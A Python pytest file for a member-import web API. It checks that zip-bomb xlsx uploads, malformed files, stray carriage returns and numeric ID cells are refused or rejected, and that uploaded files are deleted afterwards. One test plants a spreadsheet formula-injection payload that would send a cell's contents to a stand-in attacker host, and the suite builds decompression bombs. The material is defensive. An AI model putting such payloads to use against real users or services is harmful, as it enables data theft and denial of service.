"""Hostile and careless member files over HTTP: refused at the door with a code, or rejected row by
row; an import that cannot be read ends failed with its reason; no upload outlives its import."""

from __future__ import annotations

import io
import stat
import uuid
from collections.abc import AsyncIterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest
from openpyxl import Workbook, load_workbook
from temporalio.client import Client

from api.app import create_app
from core.db import Database
from core.settings import Settings
from documents.fake_members import HEADERS, member_rows, write_csv
from tests.api.helpers import imported, upload
from tests.conftest import auth
from tests.xlsx_files import bomb, header_row, inline, write_parts
from worker import ActivitySet, build_worker

CLERK = "clerk@101-0001"
ORG = "101-0001"


def uploads(settings: Settings) -> set[str]:
    folder = settings.upload_dir
    return {p.name for p in folder.iterdir()} if folder.exists() else set()


async def refused(api: httpx.AsyncClient, token: str, path: Path, status: int, code: str) -> dict[str, object]:
    r = await upload(api, token, ORG, path)
    assert r.status_code == status, r.text
    error: dict[str, object] = r.json()["error"]
    assert error["code"] == code and error["message"]
    return error


async def test_hostile_xlsx_packages_are_refused_at_upload_and_leave_nothing(
    api: httpx.AsyncClient, tokens: dict[str, str], settings: Settings, tmp_path: Path
) -> None:
    before = uploads(settings)
    for in_strings in (False, True):  # one cell, or the shared strings, inflating to 256 MB
        path = bomb(tmp_path / f"bomb-{in_strings}.xlsx", in_strings=in_strings)
        assert path.stat().st_size < 400_000
        await refused(api, tokens[CLERK], path, 413, "file_too_large")
    far = write_parts(tmp_path / "far.xlsx", [header_row(), b'<row r="2">' + inline("AAAAA2", "x") + b"</row>"])
    await refused(api, tokens[CLERK], far, 422, "file_malformed")
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(far.read_bytes()[:-300])
    await refused(api, tokens[CLERK], broken, 422, "file_malformed")
    text = write_csv(tmp_path / "m.csv", list(member_rows(3, seed=91)))
    renamed = tmp_path / "会员.xlsx"
    renamed.write_bytes(text.read_bytes())
    await refused(api, tokens[CLERK], renamed, 422, "not_xlsx")
    assert uploads(settings) == before


async def test_a_bare_carriage_return_is_a_rejected_row_not_a_500(
    api: httpx.AsyncClient, tokens: dict[str, str], settings: Settings, tmp_path: Path
) -> None:
    before = uploads(settings)
    tiny = tmp_path / "cr.csv"
    tiny.write_bytes(b"a\rb\n")
    await refused(api, tokens[CLERK], tiny, 422, "missing_columns")
    rows = list(member_rows(4, seed=82))
    path = write_csv(tmp_path / "m.csv", rows)
    lines = path.read_bytes().split(b"\n")
    lines[2] = lines[2].replace(b",", b"\r", 1)  # the second member's row
    path.write_bytes(b"\n".join(lines))
    body = await imported(api, tokens[CLERK], ORG, path)
    assert (body["accepted"], body["rejected_rows"]) == (3, 1)
    assert [(e["row"], e["code"]) for e in body["errors"]] == [(3, "malformed_line")]
    r = await api.get(f"/imports/{body['id']}/errors.xlsx", headers=auth(tokens[CLERK]))
    assert r.status_code == 200
    assert uploads(settings) == before  # the import ended: its file is gone


async def test_id_numbers_and_phones_stored_as_numbers_are_refused_with_the_reason(
    api: httpx.AsyncClient, tokens: dict[str, str], db: Database, tmp_path: Path
) -> None:
    rows = list(member_rows(3, seed=93))
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADERS)
    typed: list[list[object]] = [list(r) for r in rows]
    typed[0][HEADERS.index("证件号码")] = 310105198102030216
    typed[1][HEADERS.index("手机号码")] = int(rows[1][HEADERS.index("手机号码")])
    for row in typed:
        ws.append(row)
    wb.save(tmp_path / "n.xlsx")
    body = await imported(api, tokens[CLERK], ORG, tmp_path / "n.xlsx")
    assert (body["accepted"], body["rejected_rows"]) == (1, 2)
    found = {(e["row"], e["column"], e["code"]) for e in body["errors"]}
    assert found == {(2, "证件号码", "number_cell"), (3, "手机号码", "number_cell")}
    assert all("文本格式" in e["message"] for e in body["errors"])
    with db.connect() as conn:
        assert conn.execute("SELECT 1 FROM members WHERE id_number = '310105198102030208'").fetchone() is None
    csv_rows = list(member_rows(2, seed=84))
    csv_rows[0][HEADERS.index("证件号码")] = "3.10105E+17"
    body = await imported(api, tokens[CLERK], ORG, write_csv(tmp_path / "e.csv", csv_rows))
    assert [(e["row"], e["code"]) for e in body["errors"]] == [(2, "number_cell")]


async def test_uploads_are_private_while_kept_and_deleted_when_the_import_ends(
    api: httpx.AsyncClient, tokens: dict[str, str], settings: Settings, tmp_path: Path
) -> None:
    before = uploads(settings)
    r = await upload(
        api, tokens[CLERK], ORG, write_csv(tmp_path / "m.csv", list(member_rows(300, seed=85))), wait=False
    )
    assert r.status_code == 202
    assert stat.S_IMODE(settings.upload_dir.stat().st_mode) == 0o700
    for name in uploads(settings) - before:  # the file, or what remains of it while the import runs
        path = settings.upload_dir / name
        if path.exists():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
    done = (await api.get(f"/imports/{r.json()['id']}", params={"wait": "true"}, headers=auth(tokens[CLERK]))).json()
    assert done["status"] == "completed"
    assert uploads(settings) == before


@pytest.fixture
async def small_worker(
    settings: Settings, db: Database, temporal_client: Client
) -> AsyncIterator[tuple[httpx.AsyncClient, Settings]]:
    """An API and a worker of their own whose import processes may use 300 MB each."""
    small = settings.model_copy(
        update={"task_queue": f"small-{uuid.uuid4().hex[:6]}", "import_process_memory_mb": 300, "import_processes": 1}
    )
    activities = ActivitySet(db, small)
    with ThreadPoolExecutor(max_workers=2) as executor:
        async with build_worker(temporal_client, small, executor, activities):
            app = create_app(small, db=db, temporal=temporal_client)
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://test", timeout=120) as client:
                yield client, small
    activities.close()


async def test_a_file_the_reader_cannot_hold_fails_the_import_at_once_with_its_reason(
    small_worker: tuple[httpx.AsyncClient, Settings], tokens: dict[str, str], temporal_client: Client, tmp_path: Path
) -> None:
    """Within every limit of the pre-scan, but its 1.9 million distinct texts need more memory than
    an import process has: the import ends failed (one attempt), not queued, and its file is gone."""
    api, small = small_worker
    text = "上海市黄浦区南京东路一百号某某大厦二十层某某公司人事部工会办公室"
    strings = (f"<si><t>{i:07d} {text}</t></si>".encode() for i in range(1_900_000))
    last = b'<row r="2"><c r="A2" t="s"><v>1899999</v></c></row>'
    path = write_parts(tmp_path / "strings.xlsx", [header_row(), last], strings=strings)
    before = uploads(small)
    r = await upload(api, tokens[CLERK], ORG, path)
    assert r.status_code == 202, r.text
    body = r.json()
    assert body["status"] == "failed", body
    assert "内存" in (body["failure"] or "")
    history = await temporal_client.get_workflow_handle(f"member-import-{body['id']}").fetch_history()
    attempts = [
        e.activity_task_started_event_attributes.attempt
        for e in history.events
        if e.HasField("activity_task_started_event_attributes")
    ]
    assert attempts == [1, 1]  # prepare_import once, then finish_import
    assert uploads(small) == before


async def test_a_formula_in_a_members_address_is_text_in_errors_xlsx(
    api: httpx.AsyncClient, tokens: dict[str, str], tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?d="&B3,"x")'
    rows = list(member_rows(2, seed=86))
    rows[0][HEADERS.index("工作单位详细地址")] = evil  # too few Chinese characters: a rejected row
    body = await imported(api, tokens[CLERK], ORG, write_csv(tmp_path / "m.csv", rows))
    r = await api.get(f"/imports/{body['id']}/errors.xlsx", headers=auth(tokens[CLERK]))
    assert r.status_code == 200 and r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-disposition"].startswith("attachment")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    cell = ws.cell(row=2, column=HEADERS.index("工作单位详细地址") + 1)
    assert (cell.value, cell.data_type) == (evil, "s")


async def test_every_download_says_nosniff(api: httpx.AsyncClient, tokens: dict[str, str]) -> None:
    r = await api.get("/members/template.xlsx", headers=auth(tokens[CLERK]))
    assert r.status_code == 200 and r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-disposition"].startswith("attachment")


async def test_an_import_terminated_by_an_admin_ends_failed_and_its_file_is_deleted(
    api: httpx.AsyncClient, tokens: dict[str, str], settings: Settings, tmp_path: Path
) -> None:
    before = uploads(settings)
    path = write_csv(tmp_path / "m.csv", list(member_rows(3000, seed=87)))
    r = await upload(api, tokens[CLERK], ORG, path, wait=False)
    assert r.status_code == 202
    body = r.json()
    repair = await api.post(
        f"/admin/workflows/member-import-{body['id']}/repairs",
        json={"action": "terminate", "reason": "文件传错了，终止导入"},
        headers=auth(tokens["admin@SH"]),
    )
    if repair.status_code == 409:  # it finished first: nothing left to end
        assert repair.json()["error"]["code"] == "workflow_closed"
    else:
        assert repair.status_code == 200, repair.text
        view = (await api.get(f"/imports/{body['id']}", headers=auth(tokens[CLERK]))).json()
        assert view["status"] == "failed" and "终止" in view["failure"]
    done = (await api.get(f"/imports/{body['id']}", params={"wait": "true"}, headers=auth(tokens[CLERK]))).json()
    assert done["status"] in ("failed", "completed")
    assert uploads(settings) == before
